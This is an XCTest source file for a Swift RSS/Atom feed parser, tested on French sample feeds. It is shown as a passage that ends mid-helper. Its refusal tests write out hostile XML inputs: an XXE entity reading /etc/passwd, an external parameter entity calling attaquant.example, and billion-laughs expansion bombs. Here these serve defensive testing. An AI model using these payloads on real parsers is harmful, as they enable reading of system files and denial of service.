import Foundation
import NewsModel
import XCTest
@testable import NewsImport

/// RSS 2.0, RSS 1.0/RDF and Atom 1.0 read from small French feeds written
/// here; the security and error cases are at the end.
final class FeedParserTests: XCTestCase {
    private let origin = Origin(kind: .feed, location: "https://www.gazette-provence.example/flux.xml")

    private func parse(_ xml: String, baseURL: String? = nil) throws -> ImportResult {
        try FeedParser.parse(Array(xml.utf8), origin: origin, baseURL: baseURL)
    }

    private func parseBytes(_ bytes: [UInt8]) throws -> ImportResult {
        try FeedParser.parse(bytes, origin: origin, baseURL: nil)
    }

    /// The ImportError a document is refused with, or a failure.
    private func refusal(_ xml: String, file: StaticString = #filePath, line: UInt = #line) -> ImportError? {
        do {
            let result = try parse(xml)
            XCTFail("document accepted with \(result.articles.count) articles", file: file, line: line)
            return nil
        } catch let error as ImportError {
            return error
        } catch {
            XCTFail("unexpected error \(error)", file: file, line: line)
            return nil
        }
    }

    private func rss(items: String, channelExtra: String = "") -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
             xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
          <channel>
            <title>La Gazette  de   Provence</title>
            <link>https://www.gazette-provence.example/</link>
            <language>fr-FR</language>
            \(channelExtra)
            \(items)
          </channel>
        </rss>
        """
    }

    private func paragraphs(_ article: Article) -> [String] {
        article.blocks.compactMap { block in
            if case .paragraph(let text) = block { return text }
            return nil
        }
    }

    // MARK: - RSS 2.0

    func testRSS2ItemFieldsAndChannelTitleAsSource() throws {
        let result = try parse(rss(items: """
            <item>
              <title>Marseille : la Canebière rénovée</title>
              <link>https://www.gazette-provence.example/marseille/canebiere.html</link>
              <guid isPermaLink="false">gazette-2024-1001</guid>
              <pubDate>Thu, 24 Oct 2024 14:05:00 +0200</pubDate>
              <dc:creator>Jeanne Martin</dc:creator>
              <category>Urbanisme</category>
              <category>Marseille</category>
              <description>Les travaux sont terminés.</description>
            </item>
            """))
        XCTAssertEqual(result.format, .rss2)
        let article = try XCTUnwrap(result.articles.first)
        XCTAssertEqual(result.articles.count, 1)
        XCTAssertEqual(article.title, "Marseille : la Canebière rénovée")
        XCTAssertEqual(article.source, "La Gazette de Provence")
        XCTAssertEqual(article.url, "https://www.gazette-provence.example/marseille/canebiere.html")
        XCTAssertEqual(article.guid, "gazette-2024-1001")
        XCTAssertEqual(article.published?.iso8601, "2024-10-24T14:05:00+02:00")
        XCTAssertEqual(article.author, "Jeanne Martin")
        XCTAssertEqual(article.categories, ["Urbanisme", "Marseille"])
        XCTAssertEqual(article.language, "fr-FR")
        XCTAssertEqual(article.origin, origin)
        XCTAssertEqual(article.blocks, [.paragraph("Les travaux sont terminés.")])
    }

    func testContentEncodedOverridesDescription() throws {
        let result = try parse(rss(items: """
            <item>
              <title>Aix : le cours Mirabeau piéton le dimanche</title>
              <description>Résumé court.</description>
              <content:encoded><![CDATA[<p>Les voitures <b>ne passeront plus</b>.</p><h2>Un essai</h2><p>Voir <a href="https://www.aix.example/mirabeau">le projet</a>.</p>]]></content:encoded>
            </item>
            """))
        let article = try XCTUnwrap(result.articles.first)
        XCTAssertEqual(article.blocks, [
            .paragraph("Les voitures ne passeront plus."),
            .heading(level: 2, text: "Un essai"),
            .paragraph("Voir le projet[1]."),
            .links([LinkRef(number: 1, url: "https://www.aix.example/mirabeau", text: "le projet")]),
        ])
    }

    func testEscapedHTMLDescriptionIsReadAsHTML() throws {
        let result = try parse(rss(items: """
            <item>
              <title>Toulon : la rade accueille les voiliers</title>
              <description>&lt;p&gt;Premier paragraphe.&lt;/p&gt;&lt;p&gt;&amp;laquo;&amp;nbsp;Second&amp;nbsp;&amp;raquo;&lt;/p&gt;</description>
            </item>
            """))
        XCTAssertEqual(paragraphs(try XCTUnwrap(result.articles.first)),
                       ["Premier paragraphe.", "«\u{A0}Second\u{A0}»"])
    }

    func testRelativeLinksResolveAgainstTheChannelLink() throws {
        let result = try parse(rss(items: """
            <item>
              <title>Arles : les arènes restaurées</title>
              <link>/culture/arenes.html</link>
              <description><![CDATA[<p>Lire <a href="dossiers/arenes">le dossier</a>.</p><img src="/photos/arenes.jpg" alt="Les arènes">]]></description>
            </item>
            """), baseURL: "https://autre-site.example/flux.xml")
        let article = try XCTUnwrap(result.articles.first)
        XCTAssertEqual(article.url, "https://www.gazette-provence.example/culture/arenes.html")
        XCTAssertEqual(article.images.map(\.url), ["https://www.gazette-provence.example/photos/arenes.jpg"])
        guard case .links(let links) = article.blocks.last else { return XCTFail("no links block") }
        XCTAssertEqual(links.map(\.url), ["https://www.gazette-provence.example/dossiers/arenes"])
    }

    func testXMLBaseOnAnRSSItemBeatsTheChannelLink() throws {
        let result = try parse(rss(items: """
            <item xml:base="https://archives.gazette-provence.example/2024/">
              <title>Nice : la promenade élargie</title>
              <link>promenade.html</link>
            </item>
            """))
        XCTAssertEqual(result.articles.first?.url, "https://archives.gazette-provence.example/2024/promenade.html")
    }

    func testImageEnclosureAndMediaContentAreLeadImages() throws {
        let result = try parse(rss(items: """
            <item>
              <title>Camargue : les flamants roses de retour</title>
              <enclosure url="https://cdn.gazette-provence.example/flamants.jpg" length="1000" type="image/jpeg"/>
              <enclosure url="https://cdn.gazette-provence.example/podcast.mp3" length="1000" type="audio/mpeg"/>
              <media:content url="https://cdn.gazette-provence.example/etang.jpg" medium="image">
                <media:description>L'étang de Vaccarès au lever du jour</media:description>
                <media:credit>Paul Roux / Gazette</media:credit>
              </media:content>
              <media:content url="https://cdn.gazette-provence.example/carte.png" type="image/png"/>
              <media:content url="https://cdn.gazette-provence.example/reportage.mp4" medium="video"/>
              <description>Texte.</description>
            </item>
            """))
        let article = try XCTUnwrap(result.articles.first)
        XCTAssertEqual(article.images, [
            ImageRef(url: "https://cdn.gazette-provence.example/flamants.jpg"),
            ImageRef(url: "https://cdn.gazette-provence.example/etang.jpg",
                     caption: "L'étang de Vaccarès au lever du jour", credit: "Paul Roux / Gazette"),
            ImageRef(url: "https://cdn.gazette-provence.example/carte.png"),
        ])
        XCTAssertEqual(article.blocks.last, .paragraph("Texte."))
    }

    func testMediaThumbnailIsUsedOnlyWhenThereIsNoOtherImage() throws {
        let result = try parse(rss(items: """
            <item>
              <title>Avignon : le festival dévoile son affiche</title>
              <media:thumbnail url="https://cdn.gazette-provence.example/affiche-petite.jpg"/>
              <description>Sans image.</description>
            </item>
            <item>
              <title>Gap : la station ouvre plus tôt</title>
              <media:thumbnail url="https://cdn.gazette-provence.example/station-petite.jpg"/>
              <description><![CDATA[<p>Avec image.</p><img src="https://cdn.gazette-provence.example/station.jpg">]]></description>
            </item>
            """))
        XCTAssertEqual(result.articles.map { $0.images.map(\.url) }, [
            ["https://cdn.gazette-provence.example/affiche-petite.jpg"],
            ["https://cdn.gazette-provence.example/station.jpg"],
        ])
    }

    func testCDATAAndEntitiesInTitles() throws {
        let result = try parse(rss(items: """
            <item><title><![CDATA[Vins & fromages : « la fête »]]></title></item>
            <item><title>Le mus&#233;e &amp; la plage</title></item>
            <item><title>Crue : &lt;em&gt;alerte rouge&lt;/em&gt; sur le Var</title></item>
            <item><title>Menton : la f&amp;ecirc;te du citron</title></item>
            """))
        XCTAssertEqual(result.articles.map(\.title), [
            "Vins & fromages : « la fête »",
            "Le musée & la plage",
            "Crue : alerte rouge sur le Var",
            "Menton : la fête du citron",
        ])
    }

    func testTextFieldsAreCleanedAndNFC() throws {
        let decomposed = "Fe\u{0301}vrier a\u{0300} Se\u{0300}te"  // NFD
        let result = try parse(rss(items: """
            <item>
              <title>  \(decomposed) :\u{9B}31m alerte  </title>
              <dc:creator>  Éloïse\u{202E} Durand </dc:creator>
            </item>
            """))
        let article = try XCTUnwrap(result.articles.first)
        XCTAssertEqual(article.title, "Février à Sète : alerte")
        XCTAssertEqual(article.title, article.title.precomposedStringWithCanonicalMapping)
        XCTAssertEqual(article.author, "Éloïse Durand")
    }

    func testAuthorAddressGivesTheName() throws {
        let result = try parse(rss(items: """
            <item><title>Un</title><author>redaction@gazette.example (Jeanne Martin)</author></item>
            <item><title>Deux</title><author>Paul Roux &lt;paul@gazette.example&gt;</author></item>
            """))
        XCTAssertEqual(result.articles.map(\.author), ["Jeanne Martin", "Paul Roux"])
    }

    func testPermalinkGuidIsTheURLWhenThereIsNoLink() throws {
        let result = try parse(rss(items: """
            <item><title>Un</title><guid>https://www.gazette-provence.example/un.html</guid></item>
            <item><title>Deux</title><guid isPermaLink="false">https://www.gazette-provence.example/deux.html</guid></item>
            """))
        XCTAssertEqual(result.articles.map(\.url), ["https://www.gazette-provence.example/un.html", nil])
        XCTAssertEqual(result.articles.map(\.guid), ["https://www.gazette-provence.example/un.html",
                                                     "https://www.gazette-provence.example/deux.html"])
    }

    func testDublinCoreDateWhenThereIsNoPubDate() throws {
        let result = try parse(rss(items: "<item><title>Un</title><dc:date>2024-10-23T16:40:00+02:00</dc:date></item>"))
        XCTAssertEqual(result.articles.first?.published?.iso8601, "2024-10-23T16:40:00+02:00")
        XCTAssertEqual(result.articles.first?.published?.utcOffset, 7200)
    }

    func testItemWithoutTitleIsNamedAfterItsText() throws {
        let result = try parse(rss(items: "<item><description>Brève : le mistral souffle fort.</description></item>"))
        XCTAssertEqual(result.articles.first?.title, "Brève : le mistral souffle fort.")
    }

    func testFeedWithoutItemsIsValidAndEmpty() throws {
        let result = try parse(rss(items: ""))
        XCTAssertEqual(result.format, .rss2)
        XCTAssertEqual(result.articles, [])
    }

    func testFeedWithoutTitleIsNamedAfterItsSite() throws {
        let result = try parse("""
            <rss version="2.0"><channel><link>https://www.petit-nicois.example/</link>
            <item><title>Un</title></item></channel></rss>
            """)
        XCTAssertEqual(result.articles.first?.source, "www.petit-nicois.example")
    }

    func testUndeclaredNamespacePrefixesAreStillRead() throws {
        let result = try parse("""
            <rss version="2.0"><channel><title>Le Petit Niçois</title>
            <item><title>Sans espace de noms</title><dc:creator>Jeanne Martin</dc:creator></item>
            </channel></rss>
            """)
        XCTAssertEqual(result.articles.first?.author, "Jeanne Martin")
    }

    // MARK: - RSS 1.0 / RDF

    func testRSS1ItemsAreSiblingsOfTheChannel() throws {
        let result = try parse("""
            <?xml version="1.0" encoding="UTF-8"?>
            <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
                     xmlns:dc="http://purl.org/dc/elements/1.1/"
                     xmlns:content="http://purl.org/rss/1.0/modules/content/">
              <channel rdf:about="https://www.echo-alpes.example/rss">
                <title>L'Écho des Alpes</title>
                <link>https://www.echo-alpes.example/</link>
                <dc:language>fr</dc:language>
              </channel>
              <item rdf:about="https://www.echo-alpes.example/grenoble/tram">
                <title>Grenoble : une nouvelle ligne de tram</title>
                <link>https://www.echo-alpes.example/grenoble/tram</link>
                <description>La ligne F desservira le campus.</description>
                <dc:date>2024-10-24T09:30:00+01:00</dc:date>
                <dc:creator>Luc Bernard</dc:creator>
                <dc:subject>Transports</dc:subject>
              </item>
              <item rdf:about="https://www.echo-alpes.example/annecy/lac">
                <title>Annecy : le lac à 12 degrés</title>
                <content:encoded><![CDATA[<p>Relevé de <a href="/meteo">la station</a>.</p>]]></content:encoded>
              </item>
            </rdf:RDF>
            """)
        XCTAssertEqual(result.format, .rss1)
        XCTAssertEqual(result.articles.map(\.title),
                       ["Grenoble : une nouvelle ligne de tram", "Annecy : le lac à 12 degrés"])
        let first = result.articles[0], second = result.articles[1]
        XCTAssertEqual(first.source, "L'Écho des Alpes")
        XCTAssertEqual(first.guid, "https://www.echo-alpes.example/grenoble/tram")
        XCTAssertEqual(first.published?.iso8601, "2024-10-24T09:30:00+01:00")
        XCTAssertEqual(first.author, "Luc Bernard")
        XCTAssertEqual(first.categories, ["Transports"])
        XCTAssertEqual(first.language, "fr")
        XCTAssertEqual(second.url, "https://www.echo-alpes.example/annecy/lac")
        XCTAssertEqual(second.blocks.last,
                       .links([LinkRef(number: 1, url: "https://www.echo-alpes.example/meteo", text: "la station")]))
    }

    // MARK: - Atom

    private func atom(entries: String, feedAttributes: String = "") -> String {
        """
        <?xml version="1.0" encoding="utf-8"?>
        <feed xmlns="http://www.w3.org/2005/Atom" \(feedAttributes)>
          <title type="text">Le Journal   de Liège</title>
          <id>tag:journal-liege.example,2024:flux</id>
          <link rel="self" href="https://www.journal-liege.example/flux.atom"/>
          <author><name>Rédaction du Journal</name></author>
          \(entries)
        </feed>
        """
    }

    func testAtomEntryFields() throws {
        let result = try parse(atom(entries: """
            <entry>
              <title>Liège : la gare des Guillemins illuminée</title>
              <id>tag:journal-liege.example,2024-10-24:gare</id>
              <link rel="self" href="https://www.journal-liege.example/api/gare.json"/>
              <link rel="alternate" type="text/html" href="https://www.journal-liege.example/gare.html"/>
              <published>2024-10-24T14:05:00+02:00</published>
              <updated>2024-10-25T09:00:00+02:00</updated>
              <author><name>Sophie Lambert</name></author>
              <category term="Patrimoine" label="Le patrimoine"/>
              <content type="text">La gare sera illuminée chaque soir.</content>
            </entry>
            """))
        XCTAssertEqual(result.format, .atom)
        let article = try XCTUnwrap(result.articles.first)
        XCTAssertEqual(article.title, "Liège : la gare des Guillemins illuminée")
        XCTAssertEqual(article.source, "Le Journal de Liège")
        XCTAssertEqual(article.guid, "tag:journal-liege.example,2024-10-24:gare")
        XCTAssertEqual(article.url, "https://www.journal-liege.example/gare.html")
        XCTAssertEqual(article.published?.iso8601, "2024-10-24T14:05:00+02:00")
        XCTAssertEqual(article.author, "Sophie Lambert")
        XCTAssertEqual(article.categories, ["Patrimoine"])
        XCTAssertEqual(article.blocks, [.paragraph("La gare sera illuminée chaque soir.")])
    }

    func testAtomLinkWithoutRelIsTheAlternate() throws {
        let result = try parse(atom(entries: """
            <entry><title>Un</title><link href="https://www.journal-liege.example/un.html"/></entry>
            """))
        XCTAssertEqual(result.articles.first?.url, "https://www.journal-liege.example/un.html")
    }

    func testAtomUpdatedStandsInForPublished() throws {
        let result = try parse(atom(entries: """
            <entry><title>Un</title><updated>2024-10-22T19:45:30.250-04:00</updated></entry>
            """))
        let published = try XCTUnwrap(result.articles.first?.published)
        XCTAssertEqual(published.utcOffset, -4 * 3600)
        XCTAssertEqual(published.instant.timeIntervalSince1970,
                       ISO8601DateFormatter().date(from: "2024-10-22T23:45:30Z")!.timeIntervalSince1970 + 0.25,
                       accuracy: 0.001)
    }

    func testAtomEntryWithoutAuthorTakesTheFeedAuthor() throws {
        let result = try parse(atom(entries: "<entry><title>Un</title></entry>"))
        XCTAssertEqual(result.articles.first?.author, "Rédaction du Journal")
    }

    func testAtomContentTypesTextHTMLAndXHTML() throws {
        let result = try parse(atom(entries: """
            <entry>
              <title>Texte</title>
              <content type="text">Premier paragraphe
            sur deux lignes.

            Second paragraphe &lt;pas une balise&gt;.</content>
            </entry>
            <entry>
              <title>HTML</title>
              <content type="html">&lt;p&gt;Un &lt;em&gt;paragraphe&lt;/em&gt;.&lt;/p&gt;&lt;blockquote&gt;Une citation&lt;/blockquote&gt;</content>
            </entry>
            <entry>
              <title>XHTML</title>
              <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Un <strong>paragraphe</strong> &amp; demi.</p><ul><li>un</li><li>deux</li></ul><p>Fin<br/>de ligne.</p></div></content>
            </entry>
            """))
        XCTAssertEqual(result.articles.map(\.blocks), [
            [.paragraph("Premier paragraphe sur deux lignes."), .paragraph("Second paragraphe <pas une balise>.")],
            [.paragraph("Un paragraphe."), .quote(text: "Une citation", attribution: nil)],
            [.paragraph("Un paragraphe & demi."), .list(ordered: false, items: ["un", "deux"]),
             .paragraph("Fin\nde ligne.")],
        ])
    }

    func testAtomSummaryWhenThereIsNoContent() throws {
        let result = try parse(atom(entries: """
            <entry><title>Un</title><summary type="html">&lt;p&gt;Le résumé.&lt;/p&gt;</summary></entry>
            """))
        XCTAssertEqual(result.articles.first?.blocks, [.paragraph("Le résumé.")])
    }

    func testAtomTitleTypes() throws {
        let result = try parse(atom(entries: """
            <entry><title type="html">Namur : &lt;b&gt;la citadelle&lt;/b&gt; &amp;amp; ses remparts</title></entry>
            <entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Mons : <em>le doudou</em></div></title></entry>
            <entry><title type="text">Spa : &lt;b&gt; reste du texte</title></entry>
            """))
        XCTAssertEqual(result.articles.map(\.title),
                       ["Namur : la citadelle & ses remparts", "Mons : le doudou", "Spa : <b> reste du texte"])
    }

    func testAtomXMLBaseIsResolvedAsAStack() throws {
        let result = try parse(atom(entries: """
            <entry xml:base="regions/">
              <title>Un</title>
              <link href="liege.html"/>
              <content type="html" xml:base="https://cdn.journal-liege.example/img/">&lt;img src="photo.jpg"&gt;</content>
            </entry>
            <entry>
              <title>Deux</title>
              <link xml:base="/archives/" href="2024/deux.html"/>
              <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml" xml:base="../medias/"><p>Voir <a href="carte.html">la carte</a>.</p><img src="carte.png" alt="Carte"/></div></content>
            </entry>
            """, feedAttributes: #"xml:base="https://www.journal-liege.example/actu/""#),
            baseURL: "https://ailleurs.example/flux.atom")
        XCTAssertEqual(result.articles.map(\.url), [
            "https://www.journal-liege.example/actu/regions/liege.html",
            "https://www.journal-liege.example/archives/2024/deux.html",
        ])
        XCTAssertEqual(result.articles[0].images.map(\.url), ["https://cdn.journal-liege.example/img/photo.jpg"])
        XCTAssertEqual(result.articles[1].images.map(\.url), ["https://www.journal-liege.example/medias/carte.png"])
        XCTAssertEqual(result.articles[1].blocks.last, .links([
            LinkRef(number: 1, url: "https://www.journal-liege.example/medias/carte.html", text: "la carte"),
        ]))
    }

    func testAtomRelativeLinksWithoutXMLBaseUseTheFeedAddress() throws {
        let result = try parse(atom(entries: "<entry><title>Un</title><link href=\"un.html\"/></entry>"),
                               baseURL: "https://www.journal-liege.example/flux/atom.xml")
        XCTAssertEqual(result.articles.first?.url, "https://www.journal-liege.example/flux/un.html")
    }

    // MARK: - Encodings

    func testDeclaredISO88591IsDecoded() throws {
        let xml = """
            <?xml version="1.0" encoding="ISO-8859-1"?>
            <rss version="2.0"><channel><title>L'Écho wallon</title>
            <item><title>Liège : les étudiants réclament des kots à prix abordable</title></item>
            </channel></rss>
            """
        let bytes = try XCTUnwrap(xml.data(using: .isoLatin1))
        XCTAssertTrue(bytes.contains(0xE9), "the test document must hold a Latin-1 é")
        let result = try parseBytes([UInt8](bytes))
        XCTAssertEqual(result.articles.first?.source, "L'Écho wallon")
        XCTAssertEqual(result.articles.first?.title, "Liège : les étudiants réclament des kots à prix abordable")
    }

    func testDeclaredWindows1252IsDecoded() throws {
        // ’ is 0x92, € 0x80, œ 0x9C, … 0x85 in Windows-1252 (C1 controls in Latin-1).
        var bytes = Array("<?xml version=\"1.0\" encoding=\"windows-1252\"?><rss version=\"2.0\"><channel><title>Vigie</title><item><title>L".utf8)
        bytes += [0x92] + Array("extension co".utf8) + [0xFB] + Array("tera 9 M".utf8) + [0x80]
        bytes += Array(", en ".utf8) + [0x9C] + Array("uvre d".utf8) + [0xE8] + Array("s 2025".utf8) + [0x85]
        bytes += Array("</title></item></channel></rss>".utf8)
        let result = try parseBytes(bytes)
        XCTAssertEqual(result.articles.first?.title, "L’extension coûtera 9 M€, en œuvre dès 2025…")
    }

    // MARK: - Refusals

    func testMalformedXMLGivesAFrenchReasonAndTheLine() throws {
        let error = try XCTUnwrap(refusal("""
            <?xml version="1.0"?>
            <rss version="2.0">
              <channel>
                <title>Gazette</title>
                <item>
                  <title>Grève des bus</titel>
                </item>
              </channel>
            </rss>
            """))
        XCTAssertEqual(error.line, 6)
        XCTAssertTrue(error.reason.hasPrefix("XML mal formé : balise <title> non fermée"), error.reason)
    }

    func testWellFormedXMLThatIsNotAFeedIsRefused() throws {
        let error = try XCTUnwrap(refusal("<?xml version=\"1.0\"?>\n<catalogue><livre>Les Misérables</livre></catalogue>"))
        XCTAssertTrue(error.reason.hasPrefix("document XML qui n'est ni RSS ni Atom"), error.reason)
    }

    func testExternalEntityIsNeverResolved() throws {
        let xml = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE rss [
              <!ENTITY x SYSTEM "file:///etc/passwd">
            ]>
            <rss version="2.0"><channel><title>Gazette</title>
            <item><title>Mise à jour &x;</title><description>&x;</description></item>
            </channel></rss>
            """
        do {
            let result = try parse(xml)
            let text = result.articles.map { ([$0.title] + $0.blocks.map(\.plainText)).joined() }.joined()
            for leak in ["root:", "/bin/", "nologin"] { XCTAssertFalse(text.contains(leak)) }
        } catch let error as ImportError {
            XCTAssertTrue(error.reason.contains("entité externe"), error.reason)
            XCTAssertFalse(error.reason.contains("root:"))
        }
    }

    func testExternalParameterEntityIsRefused() throws {
        let error = try XCTUnwrap(refusal("""
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY % distant SYSTEM "http://attaquant.example/dtd"> %distant; ]>
            <rss version="2.0"><channel><title>Gazette</title></channel></rss>
            """))
        XCTAssertTrue(error.reason.contains("entité externe « distant »"), error.reason)
    }

    func testBillionLaughsIsRefusedQuickly() throws {
        var declarations = "<!ENTITY lol0 \"lol\">\n"
        for level in 1...9 {
            declarations += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [
            \(declarations)]>
            <rss version="2.0"><channel><title>Gazette</title>
            <item><title>Rire : &lol9;</title></item>
            </channel></rss>
            """
        let start = Date()
        let error = try XCTUnwrap(refusal(xml))
        XCTAssertLessThan(Date().timeIntervalSince(start), 2)
        XCTAssertTrue(error.reason.contains("expansion d'entités"), error.reason)
        XCTAssertEqual(error.line, 15)  // the line that uses &lol9;
    }

    func testBillionLaughsInAnAttributeIsRefusedQuickly() throws {
        var declarations = "<!ENTITY lol0 \"lol\">\n"
        for level in 1...9 {
            declarations += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        let start = Date()
        let error = try XCTUnwrap(refusal("""
            <?xml version="1.0"?>
            <!DOCTYPE rss [
            \(declarations)]>
            <rss version="2.0"><channel><title>Gazette</title>
            <item><title>Un</title><enclosure url="&lol9;" type="image/jpeg"/></item>
            </channel></rss>
            """))
        XCTAssertLessThan(Date().timeIntervalSince(start), 2)
        XCTAssertTrue(error.reason.contains("expansion d'entités"), error.reason)
    }

    func testLargeEntityExpansionStopsAtTheBudget() throws {
        // 100 references to a 20,000-character entity: 2 million characters,
        // which libxml2 2.9 lets through and the expander's budget stops.
        let big = String(repeating: "ha", count: 10_000)
        let references = String(repeating: "&rire;", count: 100)
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY rire "\(big)"> ]>
            <rss version="2.0"><channel><title>Gazette</title>
            <item><title>Un</title><description>\(references)</description></item>
            </channel></rss>
            """
        let start = Date()
        let error = try XCTUnwrap(refusal(xml))
        XCTAssertLessThan(Date().timeIntervalSince(start), 2)
        XCTAssertTrue(error.reason.contains("expansion d'entités"), error.reason)
    }

    func testInternalEntitiesAreExpanded() throws {
        let result = try parse("""
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!ENTITY nbsp "&#160;">
              <!ENTITY redaction "La r&#233;daction &amp; ses amis">
            ]>
            <rss version="2.0"><channel><title>Gazette</title>
            <item><title>Bonjour&nbsp;!</title><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">&redaction;</dc:creator></item>
            </channel></rss>
            """)
        XCTAssertEqual(result.articles.first?.title, "Bonjour\u{A0}!")
        XCTAssertEqual(result.articles.first?.author, "La rédaction & ses amis")
    }

    func testHTMLEntityNamesWorkUnderAnExternalDTD() throws {
        // RSS 0.91 feeds name the Netscape DTD (never loaded) and use its entities.
        let result = try parse("""
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
            <rss version="0.91"><channel><title>Gazette</title>
            <item><title>L&eacute;gislatives&nbsp;: r&eacute;sultats</title></item>
            </channel></rss>
            """)
        XCTAssertEqual(result.articles.first?.title, "Législatives\u{A0}: résultats")
    }

    func testNestingDeeperThan256ElementsIsRefused() throws {
        func feed(depth: Int) -> String {
            // rss > channel > item > description > (depth - 4) <div>s
            let divs = depth - 4
            return "<rss version=\"2.0\"><channel><title>Gazette</title><item><title>Un</title><description>"
                + String(repeating: "<div>", count: divs) + "texte" + String(repeating: "</div>", count: divs)
                + "</description></item></channel></rss>"
        }
        XCTAssertEqual(try parse(feed(depth: 256)).articles.count, 1)
        let error = try XCTUnwrap(refusal(feed(depth: 257)))
        XCTAssertTrue(error.reason.contains("plus de 256 éléments imbriqués"), error.reason)
        XCTAssertNotNil(try XCTUnwrap(refusal(feed(depth: 5_000))).line)
    }

    func testLibXML2PrintsNothingOnStandardError() throws {
        let documents = [
            "<rss><channel><title>Grève</titel></channel></rss>",
            "<rss><channel><item><title>&inconnue;</title></item></channel></rss>",
            "<rss xmlns:x=\"\"><x:a/></rss>",
            "<?xml version=\"1.0\" encoding=\"klingon\"?><rss/>",
        ]
        let output = try StandardErrorCapture.capture {
            // On a thread of its own: libxml2's error handlers are per thread.
            let done = DispatchSemaphore(value: 0)
            let thread = Thread {
                for document in documents {
                    _ = try? FeedParser.parse(Array(document.utf8), origin: Origin(kind: .file, location: "x"),
                                              baseURL: nil)
                }
                _ = HTMLBlocks.blocks(fromHTML: "<p>non <b>fermé <zorglub> &inconnue; </i>", baseURL: nil)
                done.signal()
            }
            thread.start()
            done.wait()
        }
        XCTAssertEqual(output, "")
    }
}

/// One test per file of fixtures/feeds, for what fixtures/expected.json
/// (checked by FixtureImportTests) does not say.
final class FeedFixtureTests: XCTestCase {
    private func importFixture(_ name: String) throws(ImportError) -> ImportResult {
        try DocumentImporter.importFile(atPath: Fixtures.path("feeds/" + name))
    }

    private func refusal(_ name: String) -> ImportError? {
        do {
            _ = try importFixture(name)
            XCTFail("\(name) was imported")
            return nil
        } catch {
            return error
        }
    }

    func testLeMondeLikeRSS2KeepsCaptionsCreditsAndLinks() throws {
        let articles = try importFixture("rss2-lemonde-like.xml").articles
        XCTAssertEqual(articles.count, 4)
        XCTAssertEqual(articles[0].images.first, ImageRef(
            url: "https://cdn.quotidien-lyon.example/photos/2024/10/crue-saone-1200.jpg",
            caption: "La Saône en crue au pied de la passerelle Saint-Georges",
            credit: "Léa Fontanel / Le Quotidien de Lyon"))
        XCTAssertEqual(articles[1].images.first?.credit, "Photo Julien Marchal / AFP")
        XCTAssertEqual(articles[1].images.first?.caption, "La piste du quai Augagneur, élargie au printemps.")
        XCTAssertEqual(articles[1].guid, "quotidien-lyon-2024-10-24-1842")
        XCTAssertEqual(articles[1].categories, ["Métropole", "Transports"])
        XCTAssertEqual(articles[1].blocks.last, .links([
            LinkRef(number: 1, url: "https://www.quotidien-lyon.example/dossiers/plan-velo", text: "notre dossier"),
            LinkRef(number: 2, url: "https://www.grandlyon.example/velo", text: "le site de la Métropole"),
        ]))
        XCTAssertTrue(articles[3].blocks.contains(.paragraph(
            "«\u{A0}Le quartier a gagné 6 000 habitants en dix ans, les écoles actuelles sont saturées\u{A0}», "
            + "a justifié l'adjointe à l'éducation. Le projet est présenté sur le site de la Ville[1].")))
    }

    func testISO88591Fixture() throws {
        let articles = try importFixture("rss2-iso8859.xml").articles
        XCTAssertEqual(articles.first?.source, "L'Écho du Brabant wallon")
        XCTAssertEqual(articles.map(\.author), ["Arnaud Dethier", "Isabelle Gérard", "Arnaud Dethier"])
    }

    func testWindows1252Fixture() throws {
        let articles = try importFixture("rss2-cp1252.xml").articles
        XCTAssertEqual(articles.first?.title, "Tanger Med : l’extension du terminal à conteneurs mise en œuvre dès 2025")
        guard case .paragraph(let text) = articles.first?.blocks.first else { return XCTFail("no paragraph") }
        XCTAssertTrue(text.hasSuffix("deux armateurs européens…"), text)
    }

    func testRDFFixture() throws {
        let result = try importFixture("rss1-rdf.xml")
        XCTAssertEqual(result.format, .rss1)
        XCTAssertEqual(result.articles.last?.images.first?.caption, "Le bâtiment a été construit en 26 mois.")
    }

    func testAtomFixture() throws {
        let articles = try importFixture("atom-basic.xml").articles
        XCTAssertEqual(articles.map(\.guid).first, "tag:journal-belge.example,2024-10-24:zbe-bruxelles")
        XCTAssertEqual(articles[2].blocks.filter { $0.type == "quote" }.count, 1)
        XCTAssertEqual(articles[2].published?.utcOffset, -4 * 3600)
    }

    func testMalformedFixtureIsRefusedAtLine9() throws {
        let error = try XCTUnwrap(refusal("bad-malformed.xml"))
        XCTAssertEqual(error.line, 9)
        XCTAssertEqual(error.reason, "XML mal formé : balise <title> non fermée (</titel> trouvée à la place)")
    }

    func testXXEFixtureIsRefusedWithoutReadingTheFile() throws {
        let error = try XCTUnwrap(refusal("bad-xxe.xml"))
        XCTAssertTrue(error.reason.contains("entité externe « xxe »"), error.reason)
        XCTAssertFalse(error.reason.contains("root:"))
    }

    func testBillionLaughsFixtureIsRefusedAtLine20() throws {
        let error = try XCTUnwrap(refusal("bad-billion-laughs.xml"))
        XCTAssertEqual(error.line, 20)
        XCTAssertTrue(error.reason.contains("billion laughs"), error.reason)
    }
}

/// Redirects file descriptor 2 to a temporary file while `body` runs.
enum StandardErrorCapture {
    static func capture(_ body: () throws -> Void) throws -> String {
        let path = FileManager.default.temporaryDirectory
            .appendingPathComponent("kiosque-stderr-\(UUID().uuidString)").path
        let file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o600)
        guard file >= 0 else { throw CocoaError(.fileWriteUnknown) }
        defer { unlink(path) }
        fflush(nil)  // every stream: naming stderr is not concurrency-safe
